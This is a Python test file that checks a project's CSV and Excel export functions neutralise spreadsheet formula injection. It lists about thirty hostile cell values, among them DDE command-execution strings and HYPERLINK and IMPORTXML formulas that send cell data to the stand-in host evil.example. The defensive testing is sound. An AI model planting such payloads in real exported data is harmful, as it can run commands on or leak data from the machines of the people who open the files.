"""No cell of a table that somebody takes along is a formula."""

from __future__ import annotations

import csv
import io
import math
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from config.core.tables import as_csv, as_xlsx

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   @SUM(A1)",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '"=1+1',
    "'=1+1",
    '=IMPORTXML("http://evil.example","//a")',
    "=WEBSERVICE(A1)",
    "=DDE(server;file;item)",
    "|cmd /C calc",
    "%0A=1+1",
    "\x00=1+1",
    "\x07\x1b=1+1",
    '","=1+1',
)


def from_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("place", range(len(PAYLOADS)))
def test_no_payload_is_a_formula_when_it_is_read_again(place: int) -> None:
    payload = PAYLOADS[place]

    [[head], [in_csv]] = from_csv(as_csv(["Name"], [[payload]]))
    sheet = load_workbook(io.BytesIO(as_xlsx(["Name"], [[payload]]))).active
    in_xlsx = sheet["A2"]

    assert head == "Name"
    assert in_csv.startswith("'") or in_csv == '","=1+1'
    assert in_xlsx.data_type != "f"
    assert str(in_xlsx.value).startswith("'") or in_xlsx.value == '","=1+1'


def test_a_head_is_no_formula_either() -> None:
    assert from_csv(as_csv(["=1+1"], []))[0] == ["'=1+1"]


def test_numbers_stay_numbers_and_what_is_unknown_stays_empty() -> None:
    row = [-1.5, 3, None, math.nan, date(2026, 3, 1), datetime(2026, 3, 1, 8, tzinfo=UTC), "Ada", True]

    found = load_workbook(io.BytesIO(as_xlsx(["a"] * 8, [row]))).active

    assert found is not None
    assert [cell.value for cell in found[2]] == [
        -1.5,
        3,
        None,
        None,
        datetime(2026, 3, 1),  # noqa: DTZ001  a spreadsheet knows no zones
        "2026-03-01T08:00:00+00:00",
        "Ada",
        "yes",
    ]
    expected = ["-1.5", "3", "", "", "2026-03-01", "2026-03-01T08:00:00+00:00", "Ada", "yes"]
    assert from_csv(as_csv(["a"] * 8, [row]))[1] == expected
